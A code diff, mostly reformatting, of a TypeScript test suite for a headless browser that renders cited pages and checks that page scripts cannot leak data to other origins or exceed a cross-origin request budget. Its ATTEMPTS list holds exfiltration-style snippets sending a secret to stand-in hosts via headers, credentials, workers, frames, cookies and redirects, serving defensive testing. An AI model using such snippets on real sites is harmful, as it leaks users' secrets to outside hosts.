@@ -28,12 +28,19 @@ interface Arrived {
 }
 let arrived: Arrived[] = [];
 /** Pages by `host/path`; every other path answers with JSON that any origin may read. */
-const pages = new Map<string, { readonly status?: number; readonly headers?: object; readonly body?: string }>();
+const pages = new Map<
+  string,
+  { readonly status?: number; readonly headers?: object; readonly body?: string }
+>();
 const web = createServer((request, response) => {
   const { host = '' } = request.headers;
   const path = request.url ?? '';
   arrived.push({ host, path, headers: request.headers });
-  const { status = 200, headers = {}, body = '{"text":"from the other host"}' } = pages.get(`${host}${path}`) ?? {};
+  const {
+    status = 200,
+    headers = {},
+    body = '{"text":"from the other host"}',
+  } = pages.get(`${host}${path}`) ?? {};
   const open = { 'content-type': 'application/json', 'access-control-allow-origin': '*' };
   response.writeHead(status, { ...open, ...headers } as Record<string, string>).end(body);
 });
@@ -47,14 +54,21 @@ const witnessOf = (foreign: Partial<RenderLimits['foreign']> = {}): BrowserWitne
     still: 400,
     foreign: { ...RENDER_LIMITS.foreign, ...foreign },
   };
-  const witness = openBrowser({ executable: EXECUTABLE, userAgent: 'citewatch/9.9', limits }, fetcher.fetch);
+  const witness = openBrowser(
+    { executable: EXECUTABLE, userAgent: 'citewatch/9.9', limits },
+    fetcher.fetch,
+  );
   witnesses.push(witness);
   return witness;
 };
 beforeAll(async () => {
   await new Promise<void>((done) => web.listen(0, '127.0.0.1', done));
   const { fetch } = parseSettings(
-    { hostDelay: '0', connectTo: [`::127.0.0.1:${(web.address() as AddressInfo).port}`], timeout: '3000' },
+    {
+      hostDelay: '0',
+      connectTo: [`::127.0.0.1:${(web.address() as AddressInfo).port}`],
+      timeout: '3000',
+    },
     '9.9',
   );
   const signing = { key: makeSigningKey(), agent: 'https://keys.example' };
@@ -67,14 +81,26 @@ afterAll(async () => {
 });
 
 /** Shows the cited page with this script; gives what it became, and what arrived meanwhile. */
-async function shown(script: string, witness: BrowserWitness, may = async (_: string, _foreign: boolean) => true) {
+async function shown(
+  script: string,
+  witness: BrowserWitness,
+  may = async (_: string, _foreign: boolean) => true,
+) {
   arrived = [];
   const html = `<!doctype html><html lang="en"><title>App</title><body><div id="root"></div><script>
     const say = (what) => document.getElementById('root').append(what + '; ');
     say('Text of its own. '.repeat(30));
     ${script}</script></body></html>`;
-  const received = { bytes: Buffer.from(html), headers: { 'content-type': 'text/html; charset=utf-8' } };
-  const rendering = await witness.render({ url: `http://${HOME}/page?q=1`, received, lang: 'en', may });
+  const received = {
+    bytes: Buffer.from(html),
+    headers: { 'content-type': 'text/html; charset=utf-8' },
+  };
+  const rendering = await witness.render({
+    url: `http://${HOME}/page?q=1`,
+    received,
+    lang: 'en',
+    may,
+  });
   if (rendering.kind !== 'rendered') throw new Error(JSON.stringify(rendering));
   const abroad = arrived.filter(({ host }) => host !== HOME);
   return { ...(rendering as Rendered), text: Buffer.from(rendering.html).toString(), abroad };
@@ -106,7 +132,10 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
   </script>`;
   const ATTEMPTS: readonly (readonly [name: string, script: string])[] = [
     ['authorisation', `fetch('http://a.example/', { headers: { Authorization: '${SECRET}' } })`],
-    ['a header of its choice', `fetch('http://b.example/', { headers: { 'X-Forwarded-For': '${SECRET}' } })`],
+    [
+      'a header of its choice',
+      `fetch('http://b.example/', { headers: { 'X-Forwarded-For': '${SECRET}' } })`,
+    ],
     [
       'a signature',
       `fetch('http://c.example/', { headers: { Signature: '${SECRET}', 'Signature-Input': '${SECRET}' } })`,
@@ -120,17 +149,35 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
       `{ const x = new XMLHttpRequest(); x.open('GET', 'http://e.example/', true, 'me', '${SECRET}'); x.send(); const s = document.createElement('script'); s.src = 'http://me:${SECRET}@e.example/s'; document.head.append(s); }`,
     ],
     ['a condition', `fetch('http://f.example/', { headers: { 'If-None-Match': '${SECRET}' } })`],
-    ['a type', `fetch('http://g.example/', { headers: { 'Content-Type': 'application/${SECRET}' } })`],
-    ['words in what it accepts', `fetch('http://h.example/', { headers: { accept: 'a/b;c="${SECRET}"' } })`],
-    ['long words in what it accepts', `fetch('http://i.example/', { headers: { accept: '${SECRET}'.repeat(8) } })`],
-    ['words in a range', `fetch('http://j.example/', { headers: { range: 'bytes=0-1,${SECRET}' } })`],
+    [
+      'a type',
+      `fetch('http://g.example/', { headers: { 'Content-Type': 'application/${SECRET}' } })`,
+    ],
+    [
+      'words in what it accepts',
+      `fetch('http://h.example/', { headers: { accept: 'a/b;c="${SECRET}"' } })`,
+    ],
+    [
+      'long words in what it accepts',
+      `fetch('http://i.example/', { headers: { accept: '${SECRET}'.repeat(8) } })`,
+    ],
+    [
+      'words in a range',
+      `fetch('http://j.example/', { headers: { range: 'bytes=0-1,${SECRET}' } })`,
+    ],
     [
       'its path, which it may choose',
       `history.replaceState(0, '', '/${SECRET}'); fetch('http://k.example/', { referrerPolicy: 'unsafe-url' })`,
     ],
     ['a header over a redirect', `fetch('/to-other', { headers: { 'x-a': '${SECRET}' } })`],
-    ['a header over another host and back', `fetch('/there-and-back', { headers: { 'x-a': '${SECRET}' } })`],
-    ['a header over two redirects', `fetch('/to-other-twice', { headers: { authorization: '${SECRET}' } })`],
+    [
+      'a header over another host and back',
+      `fetch('/there-and-back', { headers: { 'x-a': '${SECRET}' } })`,
+    ],
+    [
+      'a header over two redirects',
+      `fetch('/to-other-twice', { headers: { authorization: '${SECRET}' } })`,
+    ],
     [
       'a header from a worker',
       `new Worker(URL.createObjectURL(new Blob(["fetch('http://l.example/', { headers: { 'x-a': '${SECRET}' } })"])))`,
@@ -143,8 +190,14 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
       'a header from a frame without an origin',
       `{ const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = "<script>fetch('http://${HOME}/from-nobody', { headers: { 'x-a': '${SECRET}' } })<\\/script>"; document.body.append(f); }`,
     ],
-    ['a cookie', `document.cookie = 'a=${SECRET}'; fetch('http://${HOME}:8080/', { credentials: 'include' })`],
-    ['a method', `fetch('http://m.example/', { method: 'DELETE' }); fetch('http://m.example/', { method: 'PUT' })`],
+    [
+      'a cookie',
+      `document.cookie = 'a=${SECRET}'; fetch('http://${HOME}:8080/', { credentials: 'include' })`,
+    ],
+    [
+      'a method',
+      `fetch('http://m.example/', { method: 'DELETE' }); fetch('http://m.example/', { method: 'PUT' })`,
+    ],
     [
       'another header with a stylesheet',
       `{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.crossOrigin = 'use-credentials'; l.href = 'http://n.example/s.css'; document.head.append(l); }`,
@@ -153,9 +206,18 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
 
   const arrange = (): void => {
     pages.set('framed.example/frame', { headers: { 'content-type': 'text/html' }, body: FRAME });
-    pages.set(`${HOME}/to-other`, { status: 302, headers: { location: 'http://redirected.example/here' } });
-    pages.set(`${HOME}/there-and-back`, { status: 302, headers: { location: 'http://back.example/' } });
-    pages.set('back.example/', { status: 302, headers: { location: `http://${HOME}/from-elsewhere` } });
+    pages.set(`${HOME}/to-other`, {
+      status: 302,
+      headers: { location: 'http://redirected.example/here' },
+    });
+    pages.set(`${HOME}/there-and-back`, {
+      status: 302,
+      headers: { location: 'http://back.example/' },
+    });
+    pages.set('back.example/', {
+      status: 302,
+      headers: { location: `http://${HOME}/from-elsewhere` },
+    });
     pages.set(`${HOME}/to-other-twice`, {
       status: 307,
       headers: { location: `http://${HOME}/to-other-again` },
@@ -171,21 +233,31 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
     const script = ATTEMPTS.map(([, one]) => `try { ${one} } catch {}`).join('\n');
     const { abroad, wanted, refused } = await shown(script, witness);
     for (const { host, headers } of abroad) {
-      for (const name of Object.keys(headers)) expect([host, HARMLESS]).toEqual([host, expect.arrayContaining([name])]);
+      for (const name of Object.keys(headers))
+        expect([host, HARMLESS]).toEqual([host, expect.arrayContaining([name])]);
       expect(JSON.stringify(headers)).not.toContain(SECRET);
       expect(headers.referer ?? `http://${HOME}/`).toMatch(/^http:\/\/[a-z.]+\/$/);
     }
     // Of a frame of another origin the cited site hears nothing of its choice either.
-    for (const { path, headers } of arrived.filter(({ host, path }) => host === HOME && path.includes('from-')))
+    for (const { path, headers } of arrived.filter(
+      ({ host, path }) => host === HOME && path.includes('from-'),
+    ))
       expect([path, JSON.stringify(headers), headers.signature]).toEqual([
         path,
         expect.not.stringContaining(SECRET),
         undefined,
       ]);
-    expect(arrived.map(({ path }) => path)).toEqual(expect.arrayContaining(['/plain-from-frame', '/from-elsewhere']));
+    expect(arrived.map(({ path }) => path)).toEqual(
+      expect.arrayContaining(['/plain-from-frame', '/from-elsewhere']),
+    );
     // The canaries would hear: what is plain arrives, redirected or not.
     const reached = new Set(abroad.map(({ host, path }) => host + path));
-    for (const one of ['framed.example/frame', 'redirected.example/here', 'redirected.example/there', 'k.example/'])
+    for (const one of [
+      'framed.example/frame',
+      'redirected.example/here',
+      'redirected.example/there',
+      'k.example/',
+    ])
       expect(reached).toContain(one);
     for (const letter of 'abcdfghijlm') expect(reached).not.toContain(`${letter}.example/`);
     expect(wanted).toEqual(expect.arrayContaining(['preflight', 'post']));
@@ -239,7 +311,10 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
     const closed = { headers: { 'access-control-allow-origin': 'http://friend.example' } };
     pages.set('closed.example/a', closed);
     pages.set('closed.example/b', { headers: { 'access-control-allow-origin': '' } });
-    pages.set(`${HOME}/to-closed`, { status: 302, headers: { location: 'http://closed.example/a' } });
+    pages.set(`${HOME}/to-closed`, {
+      status: 302,
+      headers: { location: 'http://closed.example/a' },
+    });
     pages.set(`${HOME}/to-open`, { status: 302, headers: { location: 'http://open.example/a' } });
     const { text, wanted, abroad } = await shown(
       ['http://closed.example/a', 'http://closed.example/b', '/to-closed', '/to-open']
@@ -273,7 +348,10 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
   });
 
   it('is held against robots.txt of the other host, wherever a redirect leads', async () => {
-    pages.set(`${HOME}/to-robots`, { status: 302, headers: { location: 'http://robots.example/shut' } });
+    pages.set(`${HOME}/to-robots`, {
+      status: 302,
+      headers: { location: 'http://robots.example/shut' },
+    });
     const { abroad, wanted } = await shown(
       `fetch('/to-robots'); fetch('http://robots.example/')`,
       witness,
@@ -287,52 +365,64 @@ describe.skipIf(!canShow)('what a cited page sends to other origins', { timeout:
   });
 });
 
-describe.skipIf(!canShow)('how much a cited page may ask of other hosts', { timeout: 60_000 }, () => {
-  const ask = (urls: readonly string[]): string => urls.map((url) => `fetch('${url}').catch(() => {});`).join('\n');
-  const numbered = (n: number, url: (i: number) => string): readonly string[] =>
-    Array.from({ length: n }, (_, i) => url(i));
-  const byHost = (abroad: readonly Arrived[]): Readonly<Record<string, number>> => {
-    const counts: Record<string, number> = {};
-    for (const { host } of abroad) counts[host] = (counts[host] ?? 0) + 1;
-    return counts;
-  };
+describe.skipIf(!canShow)(
+  'how much a cited page may ask of other hosts',
+  { timeout: 60_000 },
+  () => {
+    const ask = (urls: readonly string[]): string =>
+      urls.map((url) => `fetch('${url}').catch(() => {});`).join('\n');
+    const numbered = (n: number, url: (i: number) => string): readonly string[] =>
+      Array.from({ length: n }, (_, i) => url(i));
+    const byHost = (abroad: readonly Arrived[]): Readonly<Record<string, number>> => {
+      const counts: Record<string, number> = {};
+      for (const { host } of abroad) counts[host] = (counts[host] ?? 0) + 1;
+      return counts;
+    };
 
-  it('is ten hosts, and the page is read all the same, as one that was not given all', async () => {
-    const { abroad, wanted, refused, text } = await shown(
-      ask(numbered(40, (i) => `http://v${i}.example/`)),
-      witnessOf(),
-    );
-    expect(Object.keys(byHost(abroad))).toHaveLength(10);
-    expect([wanted, refused]).toEqual([['foreign-budget'], 30]);
-    expect(text).toContain('Text of its own.');
-  });
+    it('is ten hosts, and the page is read all the same, as one that was not given all', async () => {
+      const { abroad, wanted, refused, text } = await shown(
+        ask(numbered(40, (i) => `http://v${i}.example/`)),
+        witnessOf(),
+      );
+      expect(Object.keys(byHost(abroad))).toHaveLength(10);
+      expect([wanted, refused]).toEqual([['foreign-budget'], 30]);
+      expect(text).toContain('Text of its own.');
+    });
 
-  it('is so many requests to each, redirects counted, and as many as it likes of its own', async () => {
-    pages.set(`${HOME}/jump`, { status: 302, headers: { location: 'http://victim.example/?jumped' } });
-    pages.set('turning.example/', { status: 302, headers: { location: '/1' } });
-    pages.set('turning.example/1', { status: 302, headers: { location: '/2' } });
-    const script = ask([
-      ...numbered(8, (i) => `http://victim.example/?${i}`),
-      ...numbered(8, (i) => `http://other.example/?${i}`),
-      '/jump',
-      ...numbered(3, () => 'http://turning.example/'),
-      ...numbered(12, (i) => `/own?${i}`),
-    ]);
-    const { abroad, wanted } = await shown(script, witnessOf({ requests: 5 }));
-    expect(byHost(abroad)).toEqual({ 'victim.example': 5, 'other.example': 5, 'turning.example': 5 });
-    expect(arrived.filter(({ path }) => path.startsWith('/own'))).toHaveLength(12);
-    expect(wanted).toEqual(['foreign-budget']);
-  });
+    it('is so many requests to each, redirects counted, and as many as it likes of its own', async () => {
+      pages.set(`${HOME}/jump`, {
+        status: 302,
+        headers: { location: 'http://victim.example/?jumped' },
+      });
+      pages.set('turning.example/', { status: 302, headers: { location: '/1' } });
+      pages.set('turning.example/1', { status: 302, headers: { location: '/2' } });
+      const script = ask([
+        ...numbered(8, (i) => `http://victim.example/?${i}`),
+        ...numbered(8, (i) => `http://other.example/?${i}`),
+        '/jump',
+        ...numbered(3, () => 'http://turning.example/'),
+        ...numbered(12, (i) => `/own?${i}`),
+      ]);
+      const { abroad, wanted } = await shown(script, witnessOf({ requests: 5 }));
+      expect(byHost(abroad)).toEqual({
+        'victim.example': 5,
+        'other.example': 5,
+        'turning.example': 5,
+      });
+      expect(arrived.filter(({ path }) => path.startsWith('/own'))).toHaveLength(12);
+      expect(wanted).toEqual(['foreign-budget']);
+    });
 
-  it('is so many to one host in a night, of all pages together; on the next night it begins anew', async () => {
-    const witness = witnessOf({ night: 7 });
-    const script = ask(numbered(5, (i) => `http://victim.example/?${i}`));
-    expect((await shown(script, witness)).abroad).toHaveLength(5);
-    const { abroad, wanted } = await shown(script, witness);
-    expect([abroad.length, wanted]).toEqual([2, ['foreign-budget']]);
-    expect((await shown(script, witnessOf({ night: 7 }))).abroad).toHaveLength(5);
-  });
-});
+    it('is so many to one host in a night, of all pages together; on the next night it begins anew', async () => {
+      const witness = witnessOf({ night: 7 });
+      const script = ask(numbered(5, (i) => `http://victim.example/?${i}`));
+      expect((await shown(script, witness)).abroad).toHaveLength(5);
+      const { abroad, wanted } = await shown(script, witness);
+      expect([abroad.length, wanted]).toEqual([2, ['foreign-budget']]);
+      expect((await shown(script, witnessOf({ night: 7 }))).abroad).toHaveLength(5);
+    });
+  },
+);
 
 describe('the budget of other hosts', () => {
   it('is never exceeded, in whatever order they are asked', () => {
@@ -344,7 +434,8 @@ describe('the budget of other hosts', () => {
           const foreign = new CrossOriginBudget({ hosts: 3, requests: 4, night: 6 }, night);
           const sent = page.filter((url) => foreign.take(url)).map(({ hostname }) => hostname);
           expect(new Set(sent).size).toBeLessThanOrEqual(3);
-          for (const one of new Set(sent)) expect(sent.filter((other) => other === one).length).toBeLessThanOrEqual(4);
+          for (const one of new Set(sent))
+            expect(sent.filter((other) => other === one).length).toBeLessThanOrEqual(4);
         }
         for (const count of night.values()) expect(count).toBeLessThanOrEqual(6);
       }),
@@ -398,7 +489,8 @@ describe('a header that a page chooses', () => {
         const passed = foreignHeaders({ ...headers, accept, referer: 'https://a.example/b?c' });
         expect(Object.keys(passed).filter((name) => name !== 'accept')).toEqual(['referer']);
         expect(passed.referer).toBe('https://a.example/');
-        if (passed.accept !== undefined) expect(needsPreflight({ accept: passed.accept })).toBe(false);
+        if (passed.accept !== undefined)
+          expect(needsPreflight({ accept: passed.accept })).toBe(false);
       }),
     );
   });
